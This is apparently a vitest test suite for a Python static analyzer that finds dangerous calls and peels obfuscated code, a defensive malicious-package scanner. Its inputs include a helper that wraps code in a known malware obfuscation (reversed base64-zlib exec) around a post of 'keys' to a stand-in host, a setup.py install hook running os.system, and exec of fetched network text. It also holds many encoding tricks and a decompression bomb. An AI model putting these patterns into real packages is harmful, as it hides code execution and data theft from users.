import { deflateSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import type { ModuleFacts, SinkFact } from '../module-facts.ts';
import { extractPythonFacts, readPython } from './extract.ts';

async function factsOf(text: string): Promise<ModuleFacts> {
  const facts = await extractPythonFacts(text);
  if (facts === null) throw new Error('no facts');
  return facts;
}
async function sinksOf(text: string): Promise<readonly SinkFact[]> {
  return (await factsOf(text)).sinks;
}
const constant = (sink: SinkFact | undefined, index = 0): unknown => {
  const value = sink?.args[index];
  return value?.k === 'const' ? value.v : value?.k;
};

/** The wrapping of the documented family: reversed, base64, zlib. */
function wrap(code: string, layers: number): string {
  let text = code;
  for (let i = 0; i < layers; i++) {
    const packed = deflateSync(Buffer.from(text)).toString('base64').split('').reverse().join('');
    text = `_ = lambda __ : __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]));exec((_)(b'${packed}'))`;
  }
  return text;
}

describe('extractPythonFacts', () => {
  it('names imports in every form, with what they bind', async () => {
    const { imports, parser } = await factsOf(
      'import os, sys as s\nfrom . import util\nfrom .pkg.mod import a as b\nimport urllib.request\n__import__("subprocess").run(["id"])\n',
    );
    expect(parser).toBe('tree-sitter');
    expect(imports.map((one) => one.spec)).toEqual(['os', 'sys', '.', '.pkg.mod', 'urllib.request']);
  });

  it('reads only the imports of a file that says nothing telling', async () => {
    const facts = await factsOf('import numpy as np, math\nfrom a.b import c\nprint(1)\n');
    expect([facts.parser, ...facts.imports.map((one) => one.spec)]).toEqual(['lexical', 'numpy', 'math', 'a.b']);
  });

  it('finds every spelling of the calls that matter', async () => {
    const cases: readonly (readonly [string, string, string])[] = [
      ['import os\nos.system("true")', 'child-process', 'os.system'],
      ['from os import popen as p\np("true")', 'child-process', 'os.popen'],
      ['import subprocess as sp\nsp.Popen(["true"], shell=False)', 'child-process', 'subprocess.Popen'],
      ['getattr(__import__("os"), "system")("true")', 'child-process', 'os.system'],
      ['__builtins__.exec("pass")', 'eval', 'exec'],
      ['import builtins\ngetattr(builtins, "ev" + "al")("1")', 'eval', 'eval'],
      ['exec(compile(code, "x", "exec"))', 'eval', 'exec'],
      ['import marshal\nmarshal.loads(data)', 'module-compile', 'marshal.loads'],
      ['import pickle\npickle.loads(data)', 'module-compile', 'pickle.loads'],
      ['import yaml\nyaml.load(data, Loader=yaml.Loader)', 'module-compile', 'yaml.load'],
      ['import importlib\nimportlib.import_module(name)', 'dynamic-require', 'importlib.import_module'],
      ['import ctypes\nctypes.CDLL(path)', 'dynamic-require', 'ctypes.CDLL'],
      ['import requests\nrequests.post("https://api.example/a", json={})', 'network', 'requests.post'],
      ['from urllib.request import urlopen\nurlopen("https://api.example/a")', 'network', 'urllib.request.urlopen'],
      ['import socket\ns = socket.socket()\ns.connect(("192.0.2.1", 1224))', 'network', 'socket.socket().connect'],
      ['import os\nopen(os.getenv("X"), "wb").write(b"")', 'file-write', 'open'],
    ];
    for (const [text, kind, spelling] of cases)
      expect(
        (await sinksOf(text)).map((sink) => [sink.kind, sink.spelling]),
        text,
      ).toContainEqual([kind, spelling]);
  });

  it('stays silent where the call is safe', async () => {
    expect(
      await sinksOf('import yaml\nyaml.load(f, Loader=yaml.SafeLoader)\nyaml.safe_load(f)\n__import__("os")'),
    ).toEqual([]);
    expect(await sinksOf('import re, os\nre.compile("exec(")\nmodel.eval()\ndf.eval("a+b")')).toEqual([]);
    expect((await sinksOf('import requests\nopen("a.txt").read()')).map((sink) => sink.kind)).toEqual(['file-read']);
  });

  it('says under which test a sink stands, and in which function', async () => {
    const facts = await factsOf(
      'import os\ndef main():\n  try:\n    pass\n  except Exception:\n    if os.name == "nt":\n      os.system("true")\nif __name__ == "__main__":\n  main()\n',
    );
    expect(facts.sinks[0]?.conditions).toEqual(['os.name == "nt"', 'catch']);
    expect(facts.functions[facts.sinks[0]?.fn ?? 0]?.name).toBe('main');
    expect(facts.calls).toContainEqual({
      fn: 0,
      at: expect.any(Number),
      how: 'call',
      target: { k: 'function', fn: 1 },
      args: [],
    });
  });

  it('keeps the value that flows into exec', async () => {
    const [sink] = (await sinksOf('import requests\nr = requests.get(base + "/p")\nexec(r.text)')).filter(
      (one) => one.kind === 'eval',
    );
    expect(sink?.args[0]).toMatchObject({
      k: 'get',
      key: 'text',
      of: { k: 'call', callee: { k: 'get', key: 'get', of: { k: 'import', spec: 'requests' } } },
    });
  });

  it('reads an environment value in the shape that JavaScript has', async () => {
    const [sink] = await sinksOf('import os\nexec(os.environ["AUTH"])');
    expect(sink?.args[0]).toMatchObject({
      k: 'get',
      key: 'AUTH',
      of: { k: 'get', key: 'env', of: { k: 'global', name: 'process' } },
    });
  });

  it('calls the methods of a class where one is made, thread targets and decorated functions', async () => {
    const { calls, functions } = await factsOf(
      'import subprocess, threading\nclass A:\n  def __init__(self): pass\n  def go(self): pass\ndef f(): pass\n@app.route("/")\ndef h(): pass\nA()\nthreading.Thread(target=f).start()\n',
    );
    const said = calls.flatMap((call) =>
      call.target.k === 'function' ? [`${call.how} ${functions[call.target.fn]?.name}`] : [],
    );
    expect(said.sort()).toEqual(['call __init__', 'callback f', 'callback go', 'handler h']);
  });
});

describe('setup.py', () => {
  it('calls the commands that it hands to setup', async () => {
    const { calls, functions, sinks } = await factsOf(
      'from setuptools import setup\nfrom setuptools.command.install import install\nimport os\nclass Post(install):\n  def run(self):\n    install.run(self)\n    os.system("true")\nsetup(name="x", cmdclass={"install": Post})\n',
    );
    const run = functions.findIndex((one) => one.name === 'run');
    expect(sinks.map((sink) => sink.fn)).toEqual([run]);
    expect(calls.filter((call) => call.how === 'callback').map((call) => call.target)).toEqual([
      { k: 'function', fn: run },
    ]);
  });
});

describe('constants in Python', () => {
  const folded: readonly (readonly [string, string])[] = [
    ['import base64\nexec(base64.b64decode("cHJpbnQoMSk7IHByaW50KDIp").decode())', 'print(1); print(2)'],
    ['exec(bytes.fromhex("7072696e742831292020202020"))', 'print(1)     '],
    ['exec("".join(chr(c ^ 1) for c in [113, 115, 104, 111, 117, 41, 48, 40]))', 'print(1)'],
    ['exec(bytes([b ^ 1 for b in b"qshou)0("]).decode())', 'print(1)'],
    ['a = "pri"\nb = a + "nt(%s)" % "1"\nexec(b)', 'print(1)'],
    ['exec(f"print({1})"[::-1][::-1])', 'print(1)'],
    ['exec("".join(map(chr, [112, 114, 105])))', 'pri'],
    ['import codecs\nexec(codecs.decode("cevag(1)", "rot13"))', 'print(1)'],
    ['d = lambda x: x[::-1]\nexec(d(")1(tnirp"))', 'print(1)'],
    ['def d(x):\n  return x.replace("#", "")\nexec(d("pr#int(1)"))', 'print(1)'],
    [String.raw`exec("\x70\162\u0069nt(1)")`, 'print(1)'],
    ['k = ["pr", "int", "(1)"]\nexec(k[0] + k[1] + k[-1])', 'print(1)'],
  ];
  for (const [text, value] of folded)
    it(`folds ${text.replaceAll('\n', '; ').slice(0, 60)}`, async () => {
      expect(constant((await sinksOf(text))[0])).toBe(value);
    });

  it('peels what is decoded and executed layer by layer', async () => {
    const facts = await factsOf(
      wrap('import requests\nurl = "https://peeled-not-real.example/keys"\nrequests.post(url, data=1)\n', 12),
    );
    expect(facts.computed.some((one) => one.value.includes('peeled-not-real.example'))).toBe(true);
    expect(facts.sinks.map((sink) => sink.kind)).toEqual(['eval', 'network']);
    expect(constant(facts.sinks[1])).toBe('https://peeled-not-real.example/keys');
    expect(facts.sinks[0]?.args[0]).toMatchObject({ k: 'const', how: ['reversed', 'base64', 'zlib'] });
  });
});

describe('hostile Python', () => {
  const many = 100_000;
  const inputs: readonly (readonly [string, string])[] = [
    ['open brackets', `exec(${'('.repeat(many)}`],
    ['nested brackets', `exec(${'('.repeat(20_000)}1${')'.repeat(20_000)})`],
    ['unary operators', `exec(${'not '.repeat(20_000)}x)`],
    ['a long sum', `exec(${'"a"+'.repeat(20_000)}"a")`],
    ['deep blocks', Array.from({ length: 1_000 }, (_, i) => `${' '.repeat(i)}if exec:`).join('\n')],
    ['a name that is itself', 'exec(a)\na = a + b\nb = a'],
    ['functions that call each other', 'f = lambda x: g(x)\ng = lambda x: f(x)\nexec(f(1))'],
    ['doubling', `a = "x" * 100000\n${Array.from({ length: 60 }, () => 'a = a + a').join('\n')}\nexec(a)`],
    [
      'a bomb',
      `import zlib\nexec(zlib.decompress(bytes.fromhex("${deflateSync(Buffer.alloc(30_000_000)).toString('hex')}")))`,
    ],
    ['no Python at all', '\u0000exec(\uffff{{{;;;"""'],
  ];
  for (const [name, text] of inputs)
    it(`gives a result for ${name}`, async () => {
      const before = performance.now();
      const { facts } = await readPython(text);
      expect(facts).not.toBe(null);
      expect(performance.now() - before).toBeLessThan(15_000);
    });
});
